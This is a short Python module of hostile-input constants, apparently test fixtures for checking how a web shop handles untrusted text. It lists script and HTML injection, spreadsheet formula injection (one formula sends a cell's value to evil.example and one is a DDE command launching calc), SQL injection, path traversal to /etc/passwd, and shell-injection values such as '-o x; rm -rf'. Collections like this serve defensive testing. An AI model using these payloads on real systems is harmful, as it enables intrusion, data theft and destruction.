"""Words that somebody outside chose to do harm, as in the orders of a web shop. Judges nothing."""

from __future__ import annotations

MARKUP = (
    "<b>Ann</b>",
    "Ann <i>Lee</i>",
    "<html><body>Ann",
    "&lt;b&gt;Ann",
    "<a href='https://evil.example'>Ann</a>",
    "<script>alert(1)</script>",
    "<!-- Ann",
    "Salt & Pepper",
)
LINE_BREAKS = ("\r\n", "\n", "\r", "\x85", "\u2028", "\u2029", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e")
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\x00=1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    " =1",
    "＝1",
    "\ufeff=1",
)
SEARCHES = (
    "%", "_", "a%", "%%", "__", "\\", "'", "''", '"', '" OR 1=1 --', "' OR '1'='1", "'; DROP TABLE label; --",
    "*", "a*", "NEAR", "NEAR(a b)", "a AND b", "a OR b", "NOT a", "col:a", "^a", "-a", "(a", "a)", "{a}",
    "[a]", "?", ":a", "@a", "$a", "\x00", "a\x00b", "\ud800", "\u202e", "🙂", "é", "É", "ß", "İ", "0" * 500,
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "a/b", "a\\b", ".", "..", "...", ".hidden",
    "-rf", "--out=x", "CON", "con.txt", "NUL.", "NUL ", "COM1", "LPT9.pdf", "AUX", "a.", "a ", "a:b",
    "a::$DATA", "a\x00b", "a\nb", "~", "~root",
    "$(touch x)", "`touch x`", "a;touch x", "a|b", "a&b", "*", "?", '"', "'", "<a>", "%2e%2e%2f",
    "\u202egpj.exe", "é" * 90,
    "🙂", "", " ", "w" * 10_000, "ａ／ｂ", "\u2215", "\ud800",
)  # fmt: skip
SHELL = (
    "-o x; rm -rf",
    "$(touch ran)",
    "`touch ran`",
    "a;touch ran",
    "a|touch ran",
    "a&&touch ran",
    "-h evil.example",
    "--help",
    "a\ntouch ran",
    "'\"",
    "../admin",
    "a?b#c",
)
